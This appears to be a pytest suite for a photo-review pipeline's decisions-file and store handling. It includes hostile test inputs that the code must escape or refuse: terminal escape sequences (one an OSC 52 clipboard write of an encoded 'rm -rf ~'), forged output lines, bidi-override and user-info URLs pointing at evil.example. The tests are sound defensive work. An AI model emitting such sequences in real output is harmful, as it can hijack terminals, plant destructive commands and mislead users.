    decisions.write_text("photo_id,decision\n" + "".join(f"{n},accept\n" for n in range(1, 2_001)))
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert err == (f"pass-pipeline: error: {decisions}: line 1002: over 1,000 rows, more than a decisions file of "
                   f"{decisions.stat().st_size:,} characters holds (a row as review/ writes it takes over "
                   f"{decisions_file.DECISION_ROW_BYTES} bytes, its image's sha256; "
                   f"{decisions_file.DECISION_ROW_FLOOR:,} in any file); read no further\n"), err
    assert not store.exists()
    with pytest.raises(ValueError, match=rf"{decisions}:1002: over 1,000 rows"):
        read_decisions(str(decisions))
    written = "photo_id,decision,note,sha256\n" + "".join(
        f"{50_000_000_000 + n},accept,,{n:064x}\n" for n in range(2_000))
    decisions.write_text(written)
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 0
    assert len(read_decisions(str(store))) == 2_000


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_blank_lines_between_and_after_decisions_are_no_row_over_the_bound(tmp_path, capsys, ending):
    """A spreadsheet's export padded with empty lines (here 1.1 million between two decisions and after the last) was
    refused as 'a row over 1,048,576 characters (its lines 3-1100002 together)': the reader skips a blank line, and
    each counted towards the next row's bound. They are no row: the file's two decisions are applied, and a long row
    after them is still named by its own line."""
    decisions, store = tmp_path / "d.csv", tmp_path / "store.csv"
    blank = ending * 1_100_000
    decisions.write_text(f"photo_id,decision,note{ending}5,accept,{ending}{blank}6,reject_human,face{ending}{blank}",
                         newline="")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 0, capsys.readouterr().err
    assert read_decisions(str(store)) == {"5": ("accept", "", ""), "6": ("reject_human", "face", "")}
    decisions.write_text(f"photo_id,decision,note{ending}{blank}7,accept,{'x' * (1 << 20)}{ending}", newline="")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    assert f"{decisions}: line 1100002: a line over 1,048,576 characters" in capsys.readouterr().err
    decisions.write_text(f"{ending}photo_id,decision,note{ending}{ending * 2}5,acept,{ending}", newline="")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    assert f"{decisions}: line 5: decision must be one of" in capsys.readouterr().err


def test_a_refusal_quotes_an_annotators_header_and_decision_unprintable_characters_escaped_and_bounded(tmp_path,
                                                                                                        capsys):
    """Decisions files come from annotators outside the team, and a refusal is printed to the reviewer's terminal: a
    header lacking the decision column was quoted as it was, its terminal escapes driving the terminal (a title set,
    the screen cleared) and a column name holding a line break printing a line of its own (`review: 1 decision(s)
    applied`); a decision no verdict is was quoted whole, a 100,000-character cell one line of 100,000."""
    decisions, store = tmp_path / "d.csv", tmp_path / "store.csv"
    decisions.write_text('photo_id,"\x1b]0;owned\x07\x1b[2Jverdict\nreview: 1 decision(s) applied"\n5,accept\n',
                         newline="")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert "no decision column" in err and "\\x1b]0;owned\\x07\\x1b[2Jverdict\\n" in err, err
    assert "\x1b" not in err and "\x07" not in err and err.count("\n") == 1, err
    decisions.write_text("photo_id,decision\n5,\x1b[2J" + "x" * 100_000 + "\n", newline="")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert f"{decisions}: line 2: decision must be one of" in err and "\x1b" not in err and len(err) < 500, err
    assert not store.exists()


def _pipe_writer(fifo, rows: bytes, endless: bool):
    """A thread writing `rows` into the named pipe `fifo` (again and again when `endless`) until its reader leaves."""
    import threading

    def write() -> None:
        try:
            with open(fifo, "wb") as handle:
                handle.write(b"photo_id,decision,note\n")
                handle.write(rows)
                while endless:
                    handle.write(rows)
        except BrokenPipeError:
            pass

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def _release_writer(fifo, thread) -> None:
    """Ends a writer still waiting for a reader (a failed test must not leave it blocked in open)."""
    import os

    if thread.is_alive():
        os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))
    thread.join(10)
    assert not thread.is_alive()


def test_a_named_pipe_is_read_as_a_decisions_file_and_an_endless_one_is_stopped_at_the_bound(tmp_path, capsys,
                                                                                           monkeypatch):
    """`review apply <(cmd)` (a pipe, /dev/fd/N) is a decisions file as any other: read once, to the end its writer
    gives. One whose writer never stops is read to the bound (256 MiB; here made 1 MiB) and no further: one line, the
    store untouched, the writer left with a broken pipe."""
    import os

    from pipeline import decisions_file
    from tests.conftest import traced_peak

    fifo, store = tmp_path / "decisions.fifo", tmp_path / "store.csv"
    os.mkfifo(fifo)
    thread = _pipe_writer(fifo, b"5,accept,fine\n6,reject_human,a face\n", endless=False)
    try:
        assert main(["review", "apply", str(fifo), f"--store={store}"]) == 0, capsys.readouterr().err
    finally:
        _release_writer(fifo, thread)
    assert capsys.readouterr().out == f"review: 2 decision(s) applied; {store} now holds 2\n"
    assert read_decisions(str(store)) == {"5": ("accept", "fine", ""), "6": ("reject_human", "a face", "")}

    monkeypatch.setattr(decisions_file, "MAX_DECISIONS_BYTES", 1 << 20)
    thread = _pipe_writer(fifo, b"7,reject_other,\n" * 4096, endless=True)
    try:
        code, peak = traced_peak(lambda: main(["review", "apply", str(fifo), f"--store={store}"]))
    finally:
        _release_writer(fifo, thread)
    assert code == 2
    assert capsys.readouterr().err == (f"pass-pipeline: error: {fifo}: over 1,048,576 bytes, more than any decisions "
                                       "file or store holds; read no further\n")
    assert peak < 4 << 20, peak
    assert read_decisions(str(store)) == {"5": ("accept", "fine", ""), "6": ("reject_human", "a face", "")}


@pytest.mark.parametrize("header, row, cells", [
    # a note holding a comma, written by hand without quotes: its rest was dropped
    ("photo_id,decision,note", "5,accept,fine, really", 4),
    # the image's sha256 in a fourth cell under a header without the column: dropped, the acceptance held for any image
    ("photo_id,decision,note", f"5,accept,fine,{'a' * 64}", 4),
    ("photo_id,decision,note,sha256", f"5,accept,fine,{'a' * 64},, b", 6),
    ("photo_id,decision,,", "5,accept,,,x", 5),  # columns without a name are columns too
])
def test_a_row_of_more_cells_than_its_header_is_refused_naming_its_line(tmp_path, capsys, header, row, cells):
    """A row wider than the header had its extra cells dropped without a word: a note cut at its first comma, or the
    sha256 an acceptance holds for read as no sha256 at all (the acceptance then held for whatever image the photo
    has). It is refused naming its line, by `review apply` and a run's read of the store alike; empty cells past the
    header's (a spreadsheet's rows padded to its widest) hold nothing to lose."""
    decisions, store = tmp_path / "d.csv", tmp_path / "store.csv"
    decisions.write_text(f"{header}\n6,reject_human,face\n{row}\n")
    columns = len(header.split(","))
    line = (f"{decisions}: line 3: {cells} cells, more than the {columns} columns its header names (a value "
            "holding a comma is quoted)")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    assert capsys.readouterr().err == f"pass-pipeline: error: {line}\n"
    assert not store.exists()
    with pytest.raises(ValueError, match=f"{decisions}:3: {cells} cells, more than"):
        read_decisions(str(decisions))
    decisions.write_text("photo_id,decision,note\n6,reject_human,face,,,\n5,accept,fine,,, \n")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 0, capsys.readouterr().err
    assert read_decisions(str(store)) == {"5": ("accept", "fine", ""), "6": ("reject_human", "face", "")}


@settings(max_examples=300, deadline=None)
@given(hostile_stores(), st.lists(st.tuples(st.sampled_from(["1", "3", "6", str(10**19), str(10**19 + 3)]),
                                            st.sampled_from(DECISIONS)),
                                  min_size=1, max_size=4, unique_by=lambda row: row[0]))
def test_apply_reads_and_writes_a_store_a_chunk_at_a_time_as_it_did_whole(raw, rows):
    """`review apply` read the store whole (its bytes, its text, a dict) and wrote it whole (every merged row, their
    text, their bytes): ~900 MiB over the process's own at 1.44 million decisions. Read a MiB at a time into a compact
    table and written a few thousand rows at a time, it writes the same bytes a whole read and a dict merged
    wrote, the new decisions over the store's, and refuses a store that read refused, with its line, the store as
    it was."""
    with tempfile.TemporaryDirectory() as folder, small_bounds():
        store, decisions = Path(folder) / "reviews.csv", Path(folder) / "decisions.csv"
        store.write_bytes(raw)
        decisions.write_text("photo_id,decision\n" + "".join(f"{photo_id},{verdict}\n" for photo_id, verdict in rows))
        held, refused = read_whole(str(store))
        new = {photo_id: Decision(verdict, "", "") for photo_id, verdict in rows}
        if refused is None:
            merged = held | new
            assert apply_decisions(str(decisions), str(store)) == (len(new), len(merged))
            assert store.read_bytes() == csv_bytes(DECISION_COLUMNS, ((photo_id, *merged[photo_id])
                                                                      for photo_id in sorted(merged, key=int)))
        else:
            with pytest.raises(ValueError) as streamed:
                apply_decisions(str(decisions), str(store))
            assert str(streamed.value) == refused and store.read_bytes() == raw


def test_apply_holds_a_store_in_a_fraction_of_the_memory_of_its_text_and_a_dict(tmp_path):
    """1.44 million decisions (121 MB with sha256): `review apply` held the store's bytes, text and dict, then every
    merged row and its text (~590 bytes a decision at the peak here, ~900 MiB there). A compact table (~50 bytes a
    decision and its line), the file read and written a MiB at a time: ~128 at the peak here."""
    count = 150_000
    store, decisions = tmp_path / "reviews.csv", tmp_path / "decisions.csv"
    store.write_text("photo_id,decision,note,sha256\n" + "".join(
        f"{1_000_000_000 + 7 * number},{DECISIONS[number % 3]},{'a face' if number % 10 == 0 else ''},"
        f"{number:064x}\n" for number in range(count)))
    decisions.write_text("photo_id,decision,note,sha256\n" + "".join(
        f"{1_000_000_000 + 7 * number + 3},reject_human,,\n" for number in range(100)))
    applied, peak = traced_peak(lambda: apply_decisions(str(decisions), str(store)))
    assert applied == (100, count + 100) and peak < 200 * count, peak
    assert read_decisions(str(store))[str(1_000_000_000 + 7 * 20)] == (DECISIONS[2], "a face", f"{20:064x}")


def test_a_store_changed_between_its_two_reads_is_refused_and_left_as_it_is(tmp_path, monkeypatch):
    """The store is read twice (its bytes and text checked, then its rows): one another writer changed in between
    (a hand, a copy, not an apply, which waits for the lock) is refused, not merged from two versions of it."""
    from pipeline import decisions_file

    store, decisions = tmp_path / "reviews.csv", tmp_path / "decisions.csv"
    store.write_text("photo_id,decision,note,sha256\n5,accept,,\n")
    decisions.write_text("photo_id,decision\n6,reject_human\n")
    checked = decisions_file.DecisionsText.refuse

    def then_a_hand(self, path):
        checked(self, path)
        with open(path, "a") as handle:
            handle.write("7,reject_human,,\n")

    monkeypatch.setattr(decisions_file.DecisionsText, "refuse", then_a_hand)
    with pytest.raises(ValueError, match=f"{store} changed while it was read .*; run again"):
        apply_decisions(str(decisions), str(store))
    assert store.read_text() == "photo_id,decision,note,sha256\n5,accept,,\n7,reject_human,,\n"


def test_a_note_longer_than_a_csv_cell_may_be_is_refused_in_words_that_say_so(tmp_path):
    """A note over the csv module's 131,072 characters was refused as "not CSV as a spreadsheet writes it (field larger
    than field limit (131072))": the file was CSV; the note was too long."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n7,reject_human," + "x" * 140_000 + "\n")
    with pytest.raises(ValueError, match=r"line 3: a cell over 131,072 characters \(a note is at most that long") \
            as refused:
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
    assert "not CSV" not in str(refused.value)
    decisions.write_text("photo_id,decision,note\n7,reject_human," + "x" * 131_072 + "\n")
    assert apply_decisions(str(decisions), str(tmp_path / "store.csv")) == (1, 1)


def test_a_store_lock_that_is_a_symbolic_link_is_refused_as_one_not_as_another_apply_writing(tmp_path):
    """A review store's lock (STORE.lock) that is a symbolic link is none an apply makes: refused saying so, where it
    leads and to remove it, left as it is; it was said to be "another `review apply` writing" the store, "run this one
    again once it is done", which no wait ever ends."""
    store = tmp_path / "reviews.csv"
    (tmp_path / "a.csv").write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    (tmp_path / "reviews.csv.lock").symlink_to(tmp_path / "elsewhere.lock")
    with pytest.raises(ValueError) as refused:
        apply_decisions(str(tmp_path / "a.csv"), str(store))
    said = str(refused.value)
    assert "another `review apply`" not in said, said
    assert f"{tmp_path / 'reviews.csv.lock'} is a symbolic link (to {tmp_path / 'elsewhere.lock'})" in said, said
    assert "remove the link if no run uses it" in said and not store.exists(), said
    assert os.readlink(tmp_path / "reviews.csv.lock") == str(tmp_path / "elsewhere.lock")


@pytest.mark.parametrize("leads", ["shared/reviews.csv", "nowhere/reviews.csv"])
def test_a_store_that_is_a_symbolic_link_is_refused_not_replaced_by_a_file(tmp_path, capsys, leads):
    """A --store that is a symbolic link (to a store the team shares) was replaced by a file of its own, the store it
    led to left without the decisions, a reject_human among them, while the apply said they were applied; one leading
    nowhere became a file in its place. Refused in one line naming where it leads, exit 2, the link and the store it
    leads to as they were, nothing written beside them."""
    (tmp_path / "shared").mkdir()
    shared = tmp_path / "shared" / "reviews.csv"
    shared.write_text("photo_id,decision,note,sha256\n1,accept,,\n")
    store = tmp_path / "reviews.csv"
    store.symlink_to(leads)
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note,sha256\n2,reject_human,face in the window,\n")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert f"--store {store} is a symbolic link (to {leads})" in err and err.count("\n") == 1, err
    assert os.readlink(store) == leads and shared.read_text() == "photo_id,decision,note,sha256\n1,accept,,\n"
    assert sorted(os.listdir(tmp_path)) == ["d.csv", "reviews.csv", "shared"]
    assert os.listdir(tmp_path / "shared") == ["reviews.csv"]
    # the store it leads to, named itself, takes the decisions
    if leads.startswith("shared"):
        assert main(["review", "apply", str(decisions), f"--store={shared}"]) == 0
        assert read_decisions(str(shared))["2"] == Decision("reject_human", "face in the window")


@pytest.mark.parametrize("store", ["", "new/", "new/.", "new/.."])
def test_a_store_path_naming_no_file_is_refused_before_anything_is_written(tmp_path, capsys, monkeypatch, store):
    """`--store=` (an empty value, a variable not set) and a --store naming a folder by its spelling (`new/`, `new/.`)
    ended as "the job failed: BeamIOError: Rename operation failed" or "IsADirectoryError", exit 1, a temporary copy of
    the decisions left in the working folder or the folder `new` made; a usage line, exit 2, nothing written."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "d.csv").write_text("photo_id,decision,note,sha256\n2,reject_human,,\n")
    assert main(["review", "apply", "d.csv", f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("pass-pipeline: error: --store ") and "names no file" in err, err
    assert err.count("\n") == 1 and "job failed" not in err, err
    assert os.listdir(tmp_path) == ["d.csv"]


def test_a_page_url_shown_as_text_shows_its_bidi_controls_rather_than_obeying_them():
    """A page URL that is no link (here, for the right-to-left override U+202E that the sources let through) was shown
    as written: the override reversed the rest of it, so the page showed the reviewer another URL than the metadata's
    (`…/\u202emoc.elpmaxe-live//:sptth` reads as `…/https://evil-example.com`), and an isolate or embedding left open
    reordered what follows. Each control is shown as its escape, as a refusal shows unprintable characters."""
    hostile = ["https://www.flickr.com/photos/o/5/\u202emoc.elpmaxe-live//:sptth",
               "https://www.flickr.com/photos/o/6/\u2067x\u202a", "https://www.flickr.com/photos/o/7/\u200fok"]
    photos = [photo(str(5 + i), image=real_jpeg("coffee.jpg"), page_url=url) for i, url in enumerate(hostile)]
    page = _Links()
    page.feed(contact_sheet(photos).decode())
    page.close()
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", page.text), page.text
    assert "/5/\\u202emoc.elpmaxe-live//:sptth" in page.text and "/6/\\u2067x\\u202a" in page.text
    assert "/7/\\u200fok" in page.text  # a mark too: shown, nothing in a URL is written with one
    assert [url for url in page.urls if not url.startswith("data:")] == []  # still no link


def test_a_store_that_is_a_named_pipe_is_refused_not_waited_on(tmp_path, capsys):
    """A --store that is a named pipe (a file replaced by one, `--store=>(cmd)`) was opened to be read and waited on
    for a writer for good, holding the store's lock; given one, what it wrote was read as the store and the pipe then
    replaced by a file. Refused in one line saying what it is, exit 2, the pipe left as it was."""
    import stat
    import threading

    store = tmp_path / "reviews.csv"
    os.mkfifo(store)
    done = threading.Event()

    def rescue():  # each read waiting for a writer gets one after 20 s: the test fails rather than hangs
        for _ in range(2):  # the store is read twice (its bytes, then its rows)
            if done.wait(20) or not stat.S_ISFIFO(os.lstat(store).st_mode):
                return
            with open(store, "w") as writer:
                writer.write("photo_id,decision,note,sha256\n1,accept,,\n")

    threading.Thread(target=rescue, daemon=True).start()
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note,sha256\n2,reject_human,,\n")
    try:
        assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    finally:
        done.set()
    err = capsys.readouterr().err
    assert f"--store {store} is a named pipe, not a file" in err and err.count("\n") == 1, err
    assert stat.S_ISFIFO(os.lstat(store).st_mode) and sorted(os.listdir(tmp_path)) == ["d.csv", "reviews.csv"]


def test_an_apply_stopped_as_it_writes_the_store_leaves_no_part_of_it_beside_the_store(tmp_path):
    """SIGTERM (or Ctrl-C) as the merged store was being written left its temporary, `STORE.tmp-<hex>`, beside the
    store: a part of a store under a name like the store's, never removed by a later apply. The store as it was, and
    nothing beside it."""
    import signal

    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    store.write_text("photo_id,decision,note,sha256\n1,accept,,\n")
    decisions.write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    stalled = ("def stalled(handle, held, new, *rest):\n"
               "    handle.write(b'photo_id,decision,note,sha256\\n1,acc')\n"
               "    handle.flush()\n"
               f"    open({str(tmp_path / 'writing')!r}, 'w').close()\n"
               "    time.sleep(60)\n"
               "review._write_merged = stalled\n")
    returncode, err = _apply_stopped_once(decisions, store, stalled, tmp_path / "writing")
    assert returncode == 128 + signal.SIGTERM and "Traceback" not in err, err
    assert store.read_text() == "photo_id,decision,note,sha256\n1,accept,,\n"
    assert sorted(os.listdir(tmp_path)) == ["a.csv", "reviews.csv", "writing"], err


def test_a_store_with_another_name_a_hard_link_gives_it_is_refused_not_split_in_two(tmp_path, capsys):
    """A --store that is one of two names of one file (a hard link: the store the team shares, linked into a
    reviewer's folder) was written whole under this name, a new file: the other name kept the old decisions, without
    these, a reject_human among them. Refused in one line saying so, exit 2, both names as they were."""
    (tmp_path / "shared").mkdir()
    shared = tmp_path / "shared" / "reviews.csv"
    shared.write_text("photo_id,decision,note,sha256\n1,accept,,\n")
    store = tmp_path / "reviews.csv"
    os.link(shared, store)
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note,sha256\n2,reject_human,,\n")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert f"--store {store} is one of 2 names of one file (hard links)" in err and err.count("\n") == 1, err
    assert os.path.samefile(store, shared) and shared.read_text() == "photo_id,decision,note,sha256\n1,accept,,\n"
    assert sorted(os.listdir(tmp_path)) == ["d.csv", "reviews.csv", "shared"]


@pytest.mark.parametrize("inside", ["reviews.csv", "review/reviews.csv", "notes/reviews.csv"])
def test_a_store_inside_a_dataset_is_refused_before_anything_is_written_there(demo_release, tmp_path, capsys, inside):
    """A --store inside a dataset's folder (beside its review page, or in a published release, where the reviews of
    it seemed to belong) was written there with its lock: a file the manifest does not list, so `verify` refused the
    dataset from then on (a refresh, which verifies its previous release first, was refused too), and a run into the
    folder replaces its review/ with the store in it. Refused in one usage line naming the dataset, exit 2, nothing
    written there."""
    import shutil

    dataset = tmp_path / "out"
    shutil.copytree(demo_release, dataset)
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note,sha256\n2,reject_human,,\n")
    store = dataset / inside
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert err == (f"pass-pipeline: error: --store {store} lies inside the dataset {dataset}, whose manifest does not "
                   "list it (verify would refuse the dataset) and whose run files a run into it replaces: keep the "
                   "store outside it\n"), err
    assert not store.exists() and not store.parent.joinpath("reviews.csv.lock").exists()
    assert main(["verify", str(dataset)]) == 0


def test_a_page_url_with_user_info_is_shown_as_text_not_linked():
    """`https://www.flickr.com@evil.example/photos/o/5/` opens evil.example: the photo's id on the review page was a
    link to another host than the one it seems to name. A URL with user info is shown as text; an `@` in a path or a
    query is no user info and stays a link."""
    urls = ["https://www.flickr.com@evil.example/photos/o/5/", "https://user:pw@www.flickr.com/photos/o/6/",
            "https://www.flickr.com/photos/o/7/?by=@someone", "https://www.flickr.com/photos/@o/8/"]
    photos = [photo(str(5 + i), image=real_jpeg("coffee.jpg"), page_url=url) for i, url in enumerate(urls)]
    page = _Links()
    page.feed(contact_sheet(photos).decode())
    page.close()
    assert [url for url in page.urls if not url.startswith("data:")] == urls[2:]
    assert all(url in page.text for url in urls[:2])


def test_an_apply_removes_the_parts_of_a_store_an_apply_killed_as_it_wrote_left(tmp_path):
    """An apply killed as it wrote the store (SIGKILL, a machine lost) runs nothing on its way out: its temporary,
    `STORE.tmp-<32 hex digits>`, stayed beside the store for good. The next apply, holding the store's lock (so no
    apply is writing), removes every such part; files that only look like one stay."""
    from pipeline.release.review import apply_decisions

    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    store.write_text("photo_id,decision,note,sha256\n1,accept,,\n")
    decisions.write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    parts = [tmp_path / f"reviews.csv.tmp-{digit * 32}" for digit in "0a"]
    others = [tmp_path / "reviews.csv.tmp-notmine", tmp_path / f"other.csv.tmp-{'0' * 32}"]
    for path in (*parts, *others):
        path.write_text("photo_id,decision,note,sha256\n1,acc")
    assert apply_decisions(str(decisions), str(store)) == (1, 2)
    assert not any(path.exists() for path in parts) and all(path.exists() for path in others)


def test_an_apply_says_how_many_of_the_stores_rejections_an_acceptance_replaced(tmp_path, capsys):
    """A later decision replaces the store's: an `accept` over a `reject_human` lets a photo the store kept out back
    in, and the apply said only "N decision(s) applied", so a reviewer's slip (an old decisions file applied again, a
    verdict in the wrong row) went unseen. The line says how many acceptances replaced a rejection, and which."""
    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    store.write_text("photo_id,decision,note,sha256\n5,reject_human,,\n6,reject_other,,\n7,accept,,\n9,reject_human,,\n")
    decisions.write_text("photo_id,decision,note,sha256\n5,accept,,\n6,accept,,\n7,reject_human,,\n8,accept,,\n")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 0
    assert capsys.readouterr().out == (f"review: 4 decision(s) applied; {store} now holds 5; 2 of them accept photos "
                                       "it had rejected (e.g. 5, 6)\n")
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 0  # the same again: nothing overturned
    assert capsys.readouterr().out == f"review: 4 decision(s) applied; {store} now holds 5\n"


def test_the_rejections_an_acceptance_replaced_are_counted_across_the_writes_chunks(tmp_path):
    """The store is written 10,000 rows at a time; a photo's new decision and the store's are met one after the
    other, so the one replaced is told even where the new row ended a chunk."""
    from pipeline.release.review import Overturned, apply_decisions

    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    store.write_text("photo_id,decision,note,sha256\n" + "".join(f"{n},reject_human,,\n" for n in (10_000, 20_000)))
    decisions.write_text("photo_id,decision,note,sha256\n" + "".join(f"{n},accept,,\n" for n in range(1, 20_001)))
    overturned = Overturned()
    assert apply_decisions(str(decisions), str(store), overturned) == (20_000, 20_000)
    assert (overturned.count, overturned.first) == (2, ["10000", "20000"])


def _apply_stopped_once(decisions: Path, store: Path, patch: str, ready: Path) -> tuple[int, str]:
    """(exit status, stderr) of `review apply DECISIONS --store STORE` in a child process whose `review` module
    `patch` changes, sent SIGTERM once `ready` exists."""
    import signal
    import subprocess
    import sys
    import time

    child = ("import sys, time, pipeline.release.review as review\n" + patch + "from pipeline.cli import entry\n"
             f"sys.argv[1:] = ['review', 'apply', {str(decisions)!r}, '--store', {str(store)!r}]\n"
             "sys.exit(entry())\n")
    stopped = subprocess.Popen([sys.executable, "-c", child], env={**os.environ, "PYTHONPATH": os.getcwd()},
                               stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert ready.exists()
        stopped.send_signal(signal.SIGTERM)
        _, err = stopped.communicate(timeout=30)
    finally:
        stopped.kill()
    return stopped.returncode, err


def test_the_applied_line_names_a_store_typed_with_terminal_escapes_and_a_line_break_in_one_printable_line(
        tmp_path, capsys):
    """The line saying what was applied names --store as typed: a store named with an OSC 52, ESC [2J, a right-to-left
    override and a line break was printed as it was, its escapes sent to the reviewer's terminal and a forged
    `review: 9 decision(s) applied` line of its own. It is one line, the store escaped as Python writes it in a
    string."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n")
    store = tmp_path / "s\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\u202e\nreview: 9 decision(s) applied.csv"
    assert main(["review", "apply", str(decisions), "--store", str(store)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and not any(line.startswith("review: 9") for line in out.splitlines()), out
    assert out == (f"review: 1 decision(s) applied; {tmp_path}/s\\x1b]52;c;cm0gLXJmIH4K\\x07\\x1b[2J\\u202e\\nreview: "
                   "9 decision(s) applied.csv now holds 1\n"), out
    assert read_decisions(str(store))["5"].verdict == "accept"
